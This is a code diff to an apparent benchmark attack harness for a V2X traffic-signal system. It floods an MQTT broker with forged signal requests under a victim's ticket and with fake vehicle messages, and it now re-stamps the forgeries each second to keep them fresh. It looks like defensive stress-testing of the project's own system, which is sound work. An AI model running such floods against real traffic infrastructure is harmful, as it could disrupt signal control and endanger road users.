@@ -209,10 +209,11 @@ def attack_main(url: str, codec: str, rate: float, victim_ticket: str, ready: An
     own_key, _ = generate_key_pair()  # not the victim's key: every signature is bad
     logins = [f"mallory-{k}" for k in range(10)]
     srem_payload = _srem(c, ticket.station_id, 1, cancel=False)
-    packets: list[bytes] = []
-    for k in range(2000):  # 40 %: forged SREMs under the victim's public ticket
-        env = sign_request(srem_payload, own_key, ticket, int(time.time() * 1000) + 60_000, 10**12 + k)
-        packets.append(mqtt_publish_packet(f"ivri/nl/J101/srem/{logins[k % 10]}", env.model_dump_json().encode()))
+    packets: list[Any] = []
+    for k in range(2000):  # 40 %: forged SREMs under the victim's public ticket, kept fresh
+        env = sign_request(srem_payload, own_key, ticket, 1_111_111_111_111, 10**12 + k).model_dump_json()
+        topic = f"ivri/nl/J101/srem/{logins[k % 10]}"
+        packets.append(lambda ts, t=topic, e=env: mqtt_publish_packet(t, e.replace("1111111111111", ts).encode()))
     for k in range(2000):  # 40 %: CAMs with made-up station ids, half under a login, half as a relay
         cam = c.encode(_cam(rng.randrange(1, 2**32), HEADINGS[k % 4], rng.uniform(20, 500), 12.0))
         topic = "ivri/nl/J101/cam" if k % 2 else f"ivri/nl/J101/cam/{logins[k % 10]}"
@@ -227,13 +228,22 @@ def attack_main(url: str, codec: str, rate: float, victim_ticket: str, ready: An
 
     def conn(n: int) -> None:
         share = packets[n::connections]
-        batches = [b"".join(share[k:k + batch]) for k in range(0, len(share) - batch + 1, batch)]
+
+        def build() -> list[bytes]:  # forged SREMs carry a current timestamp
+            ts = str(int(time.time() * 1000))
+            fresh = [p(ts) if callable(p) else p for p in share]
+            return [b"".join(fresh[k:k + batch]) for k in range(0, len(fresh) - batch + 1, batch)]
+
+        batches = build()
+        built = time.monotonic()
         sock = raw_mqtt_connect(host, port, f"ivri-bench-attack-{n}")
         period = batch / (rate / connections)
         t = time.monotonic()
         k = 0
         try:
             while not stop.is_set():
+                if time.monotonic() - built > 1.0:
+                    batches, built = build(), time.monotonic()
                 sock.sendall(batches[k % len(batches)])
                 counter[n] += batch
                 k += 1
